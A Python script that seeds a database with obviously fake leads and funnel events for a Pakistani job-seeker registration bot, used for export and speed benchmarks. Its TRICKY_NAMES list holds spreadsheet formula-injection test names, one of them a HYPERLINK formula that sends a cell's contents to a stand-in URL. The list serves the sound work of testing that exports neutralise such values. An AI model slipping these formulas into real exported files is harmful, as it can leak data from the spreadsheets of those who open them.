"""Seed a database with realistic, obviously fake leads (for export and page-speed benchmarks).

    from bench.seed import seed
    summary = await seed("sqlite:////tmp/leads.db", leads=100_000)

or ``.venv/bin/python bench/seed.py DATABASE_URL [--leads 100000] [--unfinished 5000]``.

Everything is fake and looks it: names start with "Test" or its Urdu "ٹیسٹ"; CNICs start with
99 (no province has that code: 99xxx-xxxxxxx-x); mobiles are +92 3xx 555xxxx. The spreads are
realistic: Punjab about half, Urdu for most, one to three sectors with construction, food
service, caregiving and agriculture the most picked, registrations growing over the last year
and in Pakistani daytime, a fifth of the leads never checked their eligibility (the others
carry a real ``ssw.assess`` result of their answers), a few deep-link sources, and a handful of
names that look like spreadsheet formulas (exports must neutralise them). Each lead has its
user; ``unfinished`` more users stopped somewhere in the registration form.

With ``funnel=True`` (``--funnel``) everyone also gets the funnel events the bot would have
recorded (``funnel_events``), in plausible proportions: ``visitors`` more people (by default
1.5 per lead) only browsed (kinds of work, "About SSW", an eligibility check); three in four
leads and three in five of the unfinished checked their eligibility first (most completing it);
every lead's registration has its started, step (each question) and registered events, and the
unfinished ones stop at the question their conversation is on. So per lead there are about 2.9
people who started using the bot, 1.3 completed eligibility checks and 1.4 registrations
started, and about 36 funnel rows.

The database is migrated first (``ssw-bot db upgrade``); rows are added after any already there.
Deterministic for a given ``random_seed``.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import random
import sys
import time
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from sqlalchemy import func, insert, select

from bot import ssw
from bot.conversation import eligibility_answers
from bot.engine.validators import age_on
from bot.storage.db import create_engine
from bot.storage.migrate import upgrade
from bot.storage.models import Conversation, FunnelEvent, Lead, User
from bot.storage.repository import REFERENCE_ALPHABET

NOW = datetime(2026, 11, 25, 12, tzinfo=UTC)

LATIN_FIRST = [
    "Muhammad", "Ali", "Ahmed", "Hassan", "Usman", "Bilal", "Imran", "Asad", "Hamza", "Zain",
    "Fatima", "Ayesha", "Zainab", "Sana", "Hira", "Maryam", "Kashif", "Nadeem", "Shahid", "Tariq",
]  # fmt: skip
LATIN_LAST = [
    "Khan", "Ahmed", "Ali", "Hussain", "Butt", "Malik", "Chaudhry", "Qureshi", "Sheikh", "Raza",
    "Baloch", "Shah", "Mughal", "Abbasi", "Siddiqui", "Awan", "Jatoi", "Khattak", "Yousafzai",
]  # fmt: skip
URDU_FIRST = [
    "محمد", "علی", "احمد", "حسن", "عثمان", "بلال", "عمران", "اسد", "حمزہ", "زین",
    "فاطمہ", "عائشہ", "زینب", "ثنا", "حرا", "مریم", "کاشف", "ندیم", "شاہد", "طارق",
]  # fmt: skip
URDU_LAST = [
    "خان", "احمد", "علی", "حسین", "بٹ", "ملک", "چوہدری", "قریشی", "شیخ", "رضا",
    "بلوچ", "شاہ", "مغل", "عباسی", "صدیقی", "اعوان", "جتوئی", "خٹک", "یوسفزئی",
]  # fmt: skip
TRICKY_NAMES = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Test click")',
    "+92 300 TEST",
    "-1+1 Test",
    "@SUM(A1:A9) Test",
    "\tTest Tab",
    "=1+2 ٹیسٹ",
]
PROVINCES = {
    "punjab": (53, ["Lahore", "Faisalabad", "Rawalpindi", "Multan", "Gujranwala", "Sialkot"]),
    "sindh": (23, ["Karachi", "Hyderabad", "Sukkur", "Larkana"]),
    "kp": (14, ["Peshawar", "Mardan", "Swat", "Abbottabad"]),
    "balochistan": (5, ["Quetta", "Gwadar", "Turbat"]),
    "islamabad": (2, ["Islamabad"]),
    "ajk": (2, ["Muzaffarabad", "Mirpur"]),
    "gb": (1, ["Gilgit", "Skardu"]),
}
PROVINCE_WEIGHTS = {key: weight for key, (weight, _) in PROVINCES.items()}
GENDERS = {"male": 88, "female": 11, "other": 1}
SECTOR_WEIGHTS = {
    "construction": 20, "food_service": 12, "nursing_care": 12, "agriculture": 10,
    "auto_transport": 8, "industrial_products": 7, "building_cleaning": 6, "auto_repair": 5,
    "accommodation": 4, "food_manufacturing": 4, "it_engineer": 4, "nurse": 2, "shipbuilding": 2,
    "fishery": 1, "aviation": 1, "railway": 1, "forestry": 1, "wood_industry": 1,
}  # fmt: skip
SOURCES = {
    None: 60, "roadshow_lahore": 10, "roadshow_karachi": 7, "roadshow_peshawar": 4,
    "fb_ad_2026": 10, "oec_website": 6, "tiktok_nov": 3,
}  # fmt: skip
LANGUAGES = {"ur": 70, "en": 25, "ja": 5}
EDUCATION = {
    "none": 4, "primary": 8, "middle": 12, "matric": 30, "intermediate": 22, "diploma": 10,
    "bachelor": 11, "master": 3,
}  # fmt: skip
JAPANESE = {"none": 55, "learning": 30, "basic": 12, "good": 3}
JP_TESTS = {
    "none": 70, "jft_a2": 14, "jlpt_n5": 7, "jlpt_n4": 5, "jlpt_n3": 2, "jlpt_n2": 1,
    "care_japanese": 1,
}  # fmt: skip
JAPAN_HISTORY = {"never": 92, "titp_completed": 4, "titp_left": 1, "other_stay": 3}
STEPS = [
    "full_name", "cnic", "mobile", "birth_date", "gender", "province", "district", "education",
    "experience_years", "sectors", "japanese_level", "jp_tests", "skills_test", "passport",
    "japan_history",
]  # fmt: skip


ELIGIBILITY_STEPS = ["age", "sector", "jp_tests", "skills_test", "titp", "experience_years"]
BROWSING = {"sectors": 45, "about": 25, "eligibility": 30}  # what a browse-only visitor opens


@dataclass(frozen=True)
class SeedSummary:
    leads: int
    unfinished: int
    seconds: float
    visitors: int = 0
    funnel_events: int = 0


_CUMULATIVE: dict[int, tuple[list[Any], list[int]]] = {}


def _pick(rng: random.Random, weights: Mapping[Any, int]) -> Any:
    if id(weights) not in _CUMULATIVE:
        _CUMULATIVE[id(weights)] = (list(weights), list(itertools.accumulate(weights.values())))
    values, cumulative = _CUMULATIVE[id(weights)]
    return rng.choices(values, cum_weights=cumulative)[0]


def _when(rng: random.Random) -> datetime:
    """Over the last year, growing (more recent, more leads), in Pakistani daytime."""
    days = 365 * (1 - rng.random() ** 0.6)
    day = NOW - timedelta(days=days)
    hour_pk = min(23, max(7, int(rng.gauss(15, 4))))
    return datetime(day.year, day.month, day.day, tzinfo=UTC) + timedelta(
        hours=hour_pk - 5, minutes=rng.randrange(60), seconds=rng.randrange(60)
    )


class _Faker:
    def __init__(self, random_seed: int) -> None:
        self.rng = random.Random(random_seed)
        self.references: set[str] = set()
        self.assessments: dict[tuple[Any, ...], dict[str, object]] = {}

    def name(self) -> str:
        rng = self.rng
        if rng.random() < 0.0005:
            return rng.choice(TRICKY_NAMES)
        if rng.random() < 0.5:
            return f"ٹیسٹ {rng.choice(URDU_FIRST)} {rng.choice(URDU_LAST)}"
        return f"Test {rng.choice(LATIN_FIRST)} {rng.choice(LATIN_LAST)}"

    def reference(self) -> str:
        while True:
            chars = "".join(self.rng.choice(REFERENCE_ALPHABET) for _ in range(8))
            reference = f"SSW-{chars[:4]}-{chars[4:]}"
            if reference not in self.references:
                self.references.add(reference)
                return reference

    def answers(self, number: int) -> dict[str, Any]:
        rng = self.rng
        province = _pick(rng, PROVINCE_WEIGHTS)
        sectors: list[str] = []
        for _ in range(rng.choice([1, 1, 1, 2, 2, 3])):
            sector = _pick(rng, SECTOR_WEIGHTS)
            if sector not in sectors:
                sectors.append(sector)
        order = list(SECTOR_WEIGHTS)
        tests = sorted({_pick(rng, JP_TESTS) for _ in range(rng.choice([1, 1, 1, 2]))})
        if "none" in tests and len(tests) > 1:
            tests.remove("none")
        history = _pick(rng, JAPAN_HISTORY)
        born = date(1980, 1, 1) + timedelta(days=rng.randrange(365 * 28))
        answers: dict[str, Any] = {
            "consent": "yes",
            "full_name": self.name(),
            "cnic": f"99{number:011d}",
            "mobile": f"+923{rng.randrange(5)}{rng.randrange(10)}555{rng.randrange(10000):04d}",
            "birth_date": born.isoformat(),
            "gender": _pick(rng, GENDERS),
            "province": province,
            "district": rng.choice(PROVINCES[province][1]),
            "education": _pick(rng, EDUCATION),
            "experience_years": min(30, int(rng.expovariate(1 / 4))),
            "sectors": sorted(sectors, key=order.index),
            "japanese_level": _pick(rng, JAPANESE),
            "jp_tests": tests,
            "skills_test": "yes" if rng.random() < 0.1 else "no",
            "passport": "yes" if rng.random() < 0.55 else "no",
            "japan_history": history,
        }
        if history.startswith("titp"):
            answers["titp_field"] = rng.choice(["construction", "agriculture", "other"])
        return answers

    def eligibility(self, answers: Mapping[str, Any], at: datetime) -> dict[str, object] | None:
        """A real assessment of the lead's answers, as the eligibility check stores it."""
        if self.rng.random() < 0.2:
            return None
        history = answers["japan_history"]
        # ages and years of experience matter through thresholds only: a few buckets keep the
        # number of distinct assessments (and of assess() calls) realistic
        age = age_on(date.fromisoformat(answers["birth_date"]), at.date())
        checked: dict[str, Any] = {
            "age": age if age < 19 else 30,
            "sector": answers["sectors"][0],
            "jp_tests": answers["jp_tests"],
            "skills_test": answers["skills_test"],
            "titp": {"titp_completed": "completed", "titp_left": "incomplete"}.get(history, "none"),
            "experience_years": min(answers["experience_years"], 5),
        }
        if "titp_field" in answers:
            checked["titp_field"] = answers["titp_field"]
        key = tuple(sorted((k, str(v)) for k, v in checked.items()))
        if key not in self.assessments:
            assessment = ssw.assess(eligibility_answers(checked), today=at.date())
            self.assessments[key] = assessment.to_dict()
        return self.assessments[key]


async def seed(
    database_url: str,
    leads: int = 100_000,
    *,
    unfinished: int | None = None,
    random_seed: int = 2026,
    batch: int = 5_000,
    funnel: bool = False,
    visitors: int | None = None,
) -> SeedSummary:
    """Add ``leads`` fake leads (each with its user) and ``unfinished`` fake unfinished
    registrations (default: 5% of ``leads``) to the database at ``database_url``; with
    ``funnel``, their funnel events and ``visitors`` browse-only people (default: 1.5 per
    lead) with theirs."""
    started = time.perf_counter()
    await asyncio.to_thread(upgrade, database_url)
    unfinished = leads // 20 if unfinished is None else unfinished
    visitors = (leads * 3 // 2 if visitors is None else visitors) if funnel else 0
    events_written = 0
    faker = _Faker(random_seed)
    rng = faker.rng
    database = create_engine(database_url)
    try:
        async with database.connect() as connection:
            first_user = int((await connection.scalar(select(func.max(User.id)))) or 0) + 1
            first_cnic = int((await connection.scalar(select(func.count(Lead.id)))) or 0)
        total = leads + unfinished + visitors
        for start in range(0, total, batch):
            users: list[dict[str, Any]] = []
            rows: list[dict[str, Any]] = []
            states: list[dict[str, Any]] = []
            events: list[dict[str, Any]] = []
            for i in range(start, min(total, start + batch)):
                user_id = first_user + i
                at = _when(rng)
                language = _pick(rng, LANGUAGES)
                source = _pick(rng, SOURCES)
                answers = faker.answers(first_cnic + i)
                users.append(
                    {
                        "id": user_id,
                        "channel": "telegram",
                        "external_id": f"fake-{user_id}",
                        "language": language,
                        "source": source,
                        "created_at": at - timedelta(minutes=rng.randrange(5, 60)),
                        "last_seen_at": at + timedelta(days=rng.random() * 20),
                    }
                )
                if i < leads:
                    rows.append(
                        {
                            "reference": faker.reference(),
                            "user_id": user_id,
                            "cnic": answers["cnic"],
                            "full_name": answers["full_name"],
                            "mobile": answers["mobile"],
                            "birth_date": date.fromisoformat(answers["birth_date"]),
                            "province": answers["province"],
                            "answers": answers,
                            "eligibility": faker.eligibility(answers, at),
                            "source": source,
                            "language": language,
                            "status": "new",
                            "consent_at": at,
                            "created_at": at,
                            "updated_at": at,
                        }
                    )
                    if funnel:
                        events += _journey(rng, user_id, at, len(STEPS), registered=True)
                elif i < leads + unfinished:
                    state = _stopped(rng, answers)
                    states.append({"user_id": user_id, "state": state, "updated_at": at})
                    if funnel:
                        reached = len(state["answers"]["registration"])  # consent + answers
                        left = state["flow"] is None  # went back to the menu
                        events += _journey(rng, user_id, at, reached, registered=False, left=left)
                else:
                    events += _browsing(rng, user_id, at)
            async with database.begin() as connection:
                await connection.execute(insert(User), users)
                if rows:
                    await connection.execute(insert(Lead), rows)
                if states:
                    await connection.execute(insert(Conversation), states)
                for first in range(0, len(events), batch):
                    await connection.execute(insert(FunnelEvent), events[first : first + batch])
            events_written += len(events)
    finally:
        await database.dispose()
    return SeedSummary(leads, unfinished, time.perf_counter() - started, visitors, events_written)


def _event(
    user_id: int,
    flow: str,
    kind: str,
    at: datetime,
    step: str | None = None,
    value: str | None = None,
) -> dict[str, Any]:
    return {"user_id": user_id, "flow": flow, "kind": kind, "step": step, "value": value, "at": at}


def _eligibility_check(
    rng: random.Random, user_id: int, at: datetime, completes: float
) -> list[dict[str, Any]]:
    """An eligibility check started at ``at``: its questions, then usually its result."""
    events = [_event(user_id, "eligibility", "started", at)]
    asked = (
        ELIGIBILITY_STEPS if rng.random() < completes else ELIGIBILITY_STEPS[: rng.randrange(1, 5)]
    )
    for n, step in enumerate(asked, 1):
        events.append(_event(user_id, "eligibility", "step", at + timedelta(seconds=20 * n), step))
    if asked is ELIGIBILITY_STEPS:
        events.append(_event(user_id, "eligibility", "completed", at + timedelta(minutes=3)))
    return events


def _journey(
    rng: random.Random,
    user_id: int,
    at: datetime,
    reached: int,
    *,
    registered: bool,
    left: bool = False,
) -> list[dict[str, Any]]:
    """Someone who started registering: an eligibility check first (often), the consent and
    the first ``reached`` questions, then registered at ``at`` (or stopped there, unfinished,
    and ``left`` the form for the menu)."""
    began = at - timedelta(minutes=8 + rng.randrange(20))
    events: list[dict[str, Any]] = []
    if rng.random() < (0.75 if registered else 0.6):
        events += _eligibility_check(rng, user_id, began - timedelta(minutes=10), 0.9)
    if rng.random() < 0.3:
        events += [
            _event(user_id, "sectors", "started", began - timedelta(minutes=15)),
            _event(
                user_id,
                "sectors",
                "viewed",
                began - timedelta(minutes=14),
                "sector",
                "construction",
            ),
        ]
    events.append(_event(user_id, "registration", "started", began))
    events.append(_event(user_id, "registration", "step", began + timedelta(seconds=5), "consent"))
    for n, step in enumerate(STEPS[:reached], 1):
        events.append(
            _event(user_id, "registration", "step", began + timedelta(seconds=30 * n), step)
        )
    if registered:
        events.append(_event(user_id, "registration", "registered", at))
    elif left:
        events.append(_event(user_id, "registration", "left", at, STEPS[reached - 1]))
    return events


def _browsing(rng: random.Random, user_id: int, at: datetime) -> list[dict[str, Any]]:
    """A visitor who only read about the work or SSW, or only checked their eligibility."""
    flow = _pick(rng, BROWSING)
    if flow == "eligibility":
        return _eligibility_check(rng, user_id, at, 0.7)
    events = [_event(user_id, flow, "started", at)]
    for n in range(rng.randrange(1, 4)):
        step = "sector" if flow == "sectors" else "topic"
        events.append(_event(user_id, flow, "viewed", at + timedelta(minutes=n + 1), step, "x"))
    return events


def _stopped(rng: random.Random, answers: Mapping[str, Any]) -> dict[str, Any]:
    """The engine's state of someone who stopped registering somewhere."""
    stop = rng.randrange(len(STEPS))
    given = {"consent": "yes", **{step: answers[step] for step in STEPS[:stop]}}
    in_form = rng.random() < 0.7  # else they went back to the menu, answers kept
    return {
        "flow": "registration" if in_form else None,
        "step": STEPS[stop] if in_form else None,
        "mode": "ask",
        "tries": 0,
        "picks": [],
        "page": 0,
        "answers": {"registration": given},
        "results": {},
    }


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("database_url", help="e.g. sqlite:////tmp/leads.db")
    parser.add_argument("--leads", type=int, default=100_000)
    parser.add_argument("--unfinished", type=int, default=None)
    parser.add_argument("--seed", type=int, default=2026)
    parser.add_argument("--funnel", action="store_true", help="also funnel events and visitors")
    args = parser.parse_args(argv)
    summary = asyncio.run(
        seed(
            args.database_url,
            args.leads,
            unfinished=args.unfinished,
            random_seed=args.seed,
            funnel=args.funnel,
        )
    )
    print(
        f"seeded {summary.leads} leads, {summary.unfinished} unfinished registrations, "
        f"{summary.visitors} visitors and {summary.funnel_events} funnel events "
        f"in {summary.seconds:.1f} s"
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
